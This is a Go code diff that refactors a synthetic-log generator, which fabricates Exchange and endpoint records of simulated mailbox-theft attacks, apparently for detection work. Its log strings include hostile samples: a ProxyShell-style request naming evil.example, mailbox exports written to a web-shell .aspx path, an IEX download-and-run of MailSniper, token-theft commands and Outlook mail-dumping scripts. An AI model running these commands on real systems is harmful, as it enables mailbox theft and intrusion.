@@ -34,78 +34,78 @@ func (r *robbery) exports(at time.Time, by *person, mailbox *person) {
 	w.log.Cmdlet(at, w.domain+"/Users/"+by.name, "New-MailboxExportRequest", `-Mailbox "`+mailbox.name+`" -FilePath "\\`+w.log.Servers[0]+`\c$\temp\m.pst"`)
 }
 
-func (w *World) serverExport(r *robbery) {
-	r.agent = one(w, tools[0], tools[6], oldBrowsers[0])
-	targets := append(w.accounts(w.count(12, 40), 0.15), r.victim.aim())
-	v, a := one(w, atForm, atEWS), w.attack("AN1269", "list tried, then exported", manyway)
-	begin := r.at.Add(-w.minutes(10, 90))
+func (r *robbery) serverExport() {
+	r.agent = one(r.w, tools[0], tools[6], oldBrowsers[0])
+	targets := append(r.w.accounts(r.w.count(12, 40), 0.15), r.victim.aim())
+	v, a := one(r.w, atForm, atEWS), r.w.attack("AN1269", "list tried, then exported", manyway)
+	begin := r.at.Add(-r.w.minutes(10, 90))
 	for i, t := range targets {
 		right := lines.Verdict(0)
 		if i == len(targets)-1 {
 			right = lines.Right + 1
 		}
-		w.at(begin.Add(time.Duration(i)*r.at.Sub(begin)/time.Duration(len(targets)+1)), func(at time.Time) { w.try(a, at, r.from(), v, t, right) })
+		r.w.at(begin.Add(time.Duration(i)*r.at.Sub(begin)/time.Duration(len(targets)+1)), func(at time.Time) { r.w.try(a, at, r.from(), v, t, right) })
 	}
 	r.run(func(at time.Time) {
 		r.agent = "Microsoft WinRM Client"
-		r.exports(r.shell(at), r.victim, one(w, w.people...))
+		r.exports(r.shell(at), r.victim, one(r.w, r.w.people...))
 	})
 }
 
-func (w *World) proxyShell(r *robbery) {
-	r.agent, r.Host = one(w, "python-requests/2.25.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/92.0", ""), w.log.Servers[0]+"."+w.domain
-	admin := w.admins[0]
+func (r *robbery) proxyShell() {
+	r.agent, r.Host = one(r.w, "python-requests/2.25.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/92.0", ""), r.w.log.Servers[0]+"."+r.w.domain
+	admin := r.w.admins[0]
 	r.run(func(at time.Time) {
-		for range w.count(6, 20) {
+		for range r.w.count(6, 20) {
 			r.Saw(at, r.ip, r.victim.upn())
-			w.log.Web(lines.Request{At: at, Client: r.from(), Service: lines.Autodiscover, Stem: "/autodiscover/autodiscover.json", Query: "a=" + w.token()[:5] + "@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json?a=x@evil.example", Status: 200, Out: 1400})
-			at = at.Add(w.seconds(1, 8))
+			r.w.log.Web(lines.Request{At: at, Client: r.from(), Service: lines.Autodiscover, Stem: "/autodiscover/autodiscover.json", Query: "a=" + r.w.token()[:5] + "@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json?a=x@evil.example", Status: 200, Out: 1400})
+			at = at.Add(r.w.seconds(1, 8))
 		}
 		r.Saw(at, r.ip, admin.upn())
-		w.log.Cmdlet(at, w.domain+"/Users/"+admin.name, "New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "`+admin.name+`"`)
-		w.log.Cmdlet(at.Add(9*time.Second), w.domain+"/Users/"+admin.name, "New-MailboxExportRequest", `-Mailbox "`+r.victim.name+`" -IncludeFolders ("#Drafts#") -FilePath "\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\`+w.token()[:6]+`.aspx"`)
+		r.w.log.Cmdlet(at, r.w.domain+"/Users/"+admin.name, "New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "`+admin.name+`"`)
+		r.w.log.Cmdlet(at.Add(9*time.Second), r.w.domain+"/Users/"+admin.name, "New-MailboxExportRequest", `-Mailbox "`+r.victim.name+`" -IncludeFolders ("#Drafts#") -FilePath "\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\`+r.w.token()[:6]+`.aspx"`)
 	})
 }
 
-func (w *World) mailSniper(r *robbery) {
-	r.ip, r.agent = w.rented(), "ExchangeServicesClient/15.00.0847.030"
-	r.run(func(at time.Time) { r.requests(at, lines.EWS, w.count(60, 300), 0.5, 6, "") })
+func (r *robbery) mailSniper() {
+	r.ip, r.agent = r.w.rented(), "ExchangeServicesClient/15.00.0847.030"
+	r.run(func(at time.Time) { r.requests(at, lines.EWS, r.w.count(60, 300), 0.5, 6, "") })
 }
 
-func (w *World) bareEWS(r *robbery) {
-	r.ip, r.agent = w.rented(), ""
-	r.at = r.at.Truncate(24 * time.Hour).Add(hours(w.draw(span{1, 4}))).Add(-time.Duration(w.countries[0].zone) * time.Hour)
-	r.run(func(at time.Time) { r.requests(at, lines.EWS, w.count(150, 400), 0.5, 5, "") })
+func (r *robbery) bareEWS() {
+	r.ip, r.agent = r.w.rented(), ""
+	r.at = r.at.Truncate(24 * time.Hour).Add(hours(r.w.draw(span{1, 4}))).Add(-time.Duration(r.w.countries[0].zone) * time.Hour)
+	r.run(func(at time.Time) { r.requests(at, lines.EWS, r.w.count(150, 400), 0.5, 5, "") })
 }
 
-func (w *World) serverImpersonation(r *robbery) {
-	account := w.netbios + `\svc-meet`
+func (r *robbery) serverImpersonation() {
+	account := r.w.netbios + `\svc-meet`
 	home, c := netip.AddrFrom4([4]byte{10, 20, 3, 19}), lines.Client{}
-	honest := w.honest("service account in honest use on the server", w.Start, w.End())
+	honest := r.w.honest("service account in honest use on the server", r.w.Start, r.w.End())
 	agent := "ExchangeServicesClient/15.00.0913.015"
-	w.during(w.Start, w.End(), 6*time.Minute, func(at time.Time) {
-		honest.Saw(home, "svc-meet@"+w.domain)
-		w.log.Basic(at, client(home, agent), lines.EWS, account, "", lines.Right)
+	r.w.during(r.w.Start, r.w.End(), 6*time.Minute, func(at time.Time) {
+		honest.Saw(home, "svc-meet@"+r.w.domain)
+		r.w.log.Basic(at, client(home, agent), lines.EWS, account, "", lines.Right)
 	})
-	r.ip = w.rented()
-	c = client(r.ip, one(w, agent, "python-requests/2.31.0", "exchangelib/5.0.3 (python-requests/2.31.0)"))
+	r.ip = r.w.rented()
+	c = client(r.ip, one(r.w, agent, "python-requests/2.31.0", "exchangelib/5.0.3 (python-requests/2.31.0)"))
 	r.run(func(at time.Time) {
-		for range w.count(80, 300) {
-			r.Saw(at, r.ip, "svc-meet@"+w.domain)
-			w.log.Basic(at, c, lines.EWS, account, "", lines.Right)
-			at = at.Add(w.seconds(1, 12))
+		for range r.w.count(80, 300) {
+			r.Saw(at, r.ip, "svc-meet@"+r.w.domain)
+			r.w.log.Basic(at, c, lines.EWS, account, "", lines.Right)
+			at = at.Add(r.w.seconds(1, 12))
 		}
 	})
 }
 
-func (w *World) serverOutlook(r *robbery) {
-	r.ip, r.agent = w.rented(), "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)"
+func (r *robbery) serverOutlook() {
+	r.ip, r.agent = r.w.rented(), "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)"
 	r.run(func(at time.Time) {
-		w.log.NTLM(at, r.from(), lines.Autodiscover, r.victim.down(), lines.Right)
-		for range w.count(80, 250) {
-			at = at.Add(w.seconds(1, 10))
+		r.w.log.NTLM(at, r.from(), lines.Autodiscover, r.victim.down(), lines.Right)
+		for range r.w.count(80, 250) {
+			at = at.Add(r.w.seconds(1, 10))
 			r.Saw(at, r.ip, r.victim.upn())
-			w.log.Signed(at, r.from(), lines.MAPI, r.victim.down(), "", w.count(50_000, 900_000))
+			r.w.log.Signed(at, r.from(), lines.MAPI, r.victim.down(), "", r.w.count(50_000, 900_000))
 		}
 	})
 }
@@ -122,63 +122,65 @@ func (r *robbery) download(session func(at time.Time)) {
 	})
 }
 
-func (w *World) serverIMAP(r *robbery) {
-	r.download(func(at time.Time) { w.log.IMAP(at, client(r.ip, ""), r.victim.upn(), lines.Right, w.count(60, 250)) })
+func (r *robbery) serverIMAP() {
+	r.download(func(at time.Time) {
+		r.w.log.IMAP(at, client(r.ip, ""), r.victim.upn(), lines.Right, r.w.count(60, 250))
+	})
 }
 
-func (w *World) serverPOP(r *robbery) {
-	r.download(func(at time.Time) { w.log.POP(at, client(r.ip, ""), r.victim.upn(), lines.Right, w.count(60, 250)) })
+func (r *robbery) serverPOP() {
+	r.download(func(at time.Time) { r.w.log.POP(at, client(r.ip, ""), r.victim.upn(), lines.Right, r.w.count(60, 250)) })
 }
 
-func (w *World) serverEAS(r *robbery) {
-	r.ip, r.agent = w.rented(), one(w, "python-requests/2.31.0", "PEAS/1.0", "")
-	query := lines.Device(r.victim.down(), w.token()[:12], one(w, "Python", "Android"), "Sync")
-	r.run(func(at time.Time) { r.requests(at, lines.EAS, w.count(60, 200), 1, 8, query) })
+func (r *robbery) serverEAS() {
+	r.ip, r.agent = r.w.rented(), one(r.w, "python-requests/2.31.0", "PEAS/1.0", "")
+	query := lines.Device(r.victim.down(), r.w.token()[:12], one(r.w, "Python", "Android"), "Sync")
+	r.run(func(at time.Time) { r.requests(at, lines.EAS, r.w.count(60, 200), 1, 8, query) })
 }
 
-func (w *World) serverByHand(r *robbery) {
-	r.ip, r.agent = one(w, w.hosting[1:]...).V4(w.rng.Uint64()), w.current(w.Start)
+func (r *robbery) serverByHand() {
+	r.ip, r.agent = one(r.w, r.w.hosting[1:]...).V4(r.w.rng.Uint64()), r.w.current(r.w.Start)
 	r.run(func(at time.Time) {
-		at = r.guess(at, w.count(2, 4))
-		for range w.count(40, 120) {
+		at = r.guess(at, r.w.count(2, 4))
+		for range r.w.count(40, 120) {
 			r.Saw(at, r.ip, r.victim.upn())
-			w.log.Web(lines.Request{At: at, Client: r.from(), Service: lines.OWA, Stem: "/owa/service.svc", Query: "action=GetItem", User: r.victim.upn(), Status: 200, Signed: true, Out: w.count(3000, 90000)})
-			at = at.Add(w.seconds(8, 90))
+			r.w.log.Web(lines.Request{At: at, Client: r.from(), Service: lines.OWA, Stem: "/owa/service.svc", Query: "action=GetItem", User: r.victim.upn(), Status: 200, Signed: true, Out: r.w.count(3000, 90000)})
+			at = at.Add(r.w.seconds(8, 90))
 		}
 	})
 }
 
-func (w *World) scriptBlock(r *robbery) {
-	r.Host = "PC-" + w.token()[:5] + "." + w.domain
+func (r *robbery) scriptBlock() {
+	r.Host = "PC-" + r.w.token()[:5] + "." + r.w.domain
 	r.run(func(at time.Time) {
 		r.Saw(at, netip.Addr{}, r.victim.upn())
-		w.log.ScriptBlock(at, r.Host, r.victim.down(), one(w,
-			"IEX (New-Object Net.WebClient).DownloadString('http://files.invalid/MailSniper.ps1'); Invoke-SelfSearch -Mailbox "+r.victim.upn()+" -ExchHostname mail."+w.domain,
+		r.w.log.ScriptBlock(at, r.Host, r.victim.down(), one(r.w,
+			"IEX (New-Object Net.WebClient).DownloadString('http://files.invalid/MailSniper.ps1'); Invoke-SelfSearch -Mailbox "+r.victim.upn()+" -ExchHostname mail."+r.w.domain,
 			"Import-Module AADInternals; $at = Get-AADIntAccessTokenForExchangeOnline -SaveToCache; Open-AADIntOWA",
-			"Import-Module .\\TokenTactics.psd1; Get-AzureToken -Client MSGraph; Invoke-RefreshToMSGraphToken -domain "+w.domain+"; Invoke-DumpOWAMailboxViaMSGraphApi -AccessToken $t -mailFolder inbox -top 200",
+			"Import-Module .\\TokenTactics.psd1; Get-AzureToken -Client MSGraph; Invoke-RefreshToMSGraphToken -domain "+r.w.domain+"; Invoke-DumpOWAMailboxViaMSGraphApi -AccessToken $t -mailFolder inbox -top 200",
 			". .\\GraphRunner.ps1; Get-GraphTokens; Get-Inbox -Tokens $tokens -userid "+r.victim.upn()+" -TotalMessages 50 -OutFile mail.json",
 		))
-		w.log.Query(at.Add(2*time.Second), r.Host, r.victim.down(), `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, one(w, "outlook.office365.com", "mail."+w.domain))
+		r.w.log.Query(at.Add(2*time.Second), r.Host, r.victim.down(), `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, one(r.w, "outlook.office365.com", "mail."+r.w.domain))
 	})
 }
 
 // comScript is PowerShell that reads the mailbox through Outlook on the computer.
-func (w *World) comScript(r *robbery) {
-	r.Host = "PC-" + w.token()[:5] + "." + w.domain
+func (r *robbery) comScript() {
+	r.Host = "PC-" + r.w.token()[:5] + "." + r.w.domain
 	r.run(func(at time.Time) {
 		r.Saw(at, netip.Addr{}, r.victim.upn())
-		w.log.ScriptBlock(at, r.Host, r.victim.down(), one(w,
+		r.w.log.ScriptBlock(at, r.Host, r.victim.down(), one(r.w,
 			"$o = New-Object -ComObject Outlook.Application; $n = $o.GetNamespace('MAPI'); $f = $n.GetDefaultFolder(6); $f.Items | % { $_.SaveAs(\"$env:TEMP\\m\\$($_.EntryID).msg\") }; Compress-Archive $env:TEMP\\m $env:TEMP\\m.zip",
 			"Add-Type -AssemblyName Microsoft.Office.Interop.Outlook; $ns = (New-Object -ComObject Outlook.Application).GetNamespace('MAPI'); foreach ($i in $ns.GetDefaultFolder(6).Items) { $i.Body | Out-File -Append C:\\ProgramData\\x.txt }"))
-		w.log.Query(at.Add(4*time.Second), r.Host, r.victim.down(), `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "transfer.invalid")
+		r.w.log.Query(at.Add(4*time.Second), r.Host, r.victim.down(), `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "transfer.invalid")
 	})
 }
 
-func (w *World) remoteExport(r *robbery) {
+func (r *robbery) remoteExport() {
 	owner := r.victim
 	r.becomesAdmin()
 	r.agent = "Microsoft WinRM Client"
-	r.ip = w.rented()
+	r.ip = r.w.rented()
 	r.run(func(at time.Time) {
 		at = r.shell(at)
 		r.Saw(at, r.ip, owner.upn())
@@ -187,14 +189,14 @@ func (w *World) remoteExport(r *robbery) {
 }
 
 // searchMailbox copies what it finds in all mailboxes into one.
-func (w *World) searchMailbox(r *robbery) {
+func (r *robbery) searchMailbox() {
 	owner := r.victim
 	r.becomesAdmin()
-	r.ip, r.agent = w.rented(), "Microsoft WinRM Client"
+	r.ip, r.agent = r.w.rented(), "Microsoft WinRM Client"
 	r.run(func(at time.Time) {
 		at = r.shell(at)
 		r.Saw(at, r.ip, owner.upn())
-		w.log.Cmdlet(at, w.domain+"/Users/"+r.victim.name, "Search-Mailbox", `-Identity "`+owner.name+`" -SearchQuery "password" -TargetMailbox "`+r.victim.name+`" -TargetFolder "x"`)
+		r.w.log.Cmdlet(at, r.w.domain+"/Users/"+r.victim.name, "Search-Mailbox", `-Identity "`+owner.name+`" -SearchQuery "password" -TargetMailbox "`+r.victim.name+`" -TargetFolder "x"`)
 	})
 }
 
@@ -208,13 +210,13 @@ func (r *robbery) shell(at time.Time) time.Time {
 	return at
 }
 
-func (w *World) serverGranted(r *robbery) {
+func (r *robbery) serverGranted() {
 	r.becomesAdmin()
-	r.ip, r.agent = w.rented(), "Microsoft WinRM Client"
+	r.ip, r.agent = r.w.rented(), "Microsoft WinRM Client"
 	r.run(func(at time.Time) {
 		at = r.shell(at)
-		w.log.Cmdlet(at, w.domain+"/Users/"+r.victim.name, "New-ManagementRoleAssignment", `-Name "x" -Role "ApplicationImpersonation" -User "`+r.victim.name+`"`)
-		r.agent = one(w, "ExchangeServicesClient/15.00.0913.015", "python-requests/2.31.0")
-		r.requests(at.Add(w.minutes(1, 30)), lines.EWS, w.count(80, 300), 0.5, 6, "")
+		r.w.log.Cmdlet(at, r.w.domain+"/Users/"+r.victim.name, "New-ManagementRoleAssignment", `-Name "x" -Role "ApplicationImpersonation" -User "`+r.victim.name+`"`)
+		r.agent = one(r.w, "ExchangeServicesClient/15.00.0913.015", "python-requests/2.31.0")
+		r.requests(at.Add(r.w.minutes(1, 30)), lines.EWS, r.w.count(80, 300), 0.5, 6, "")
 	})
 }
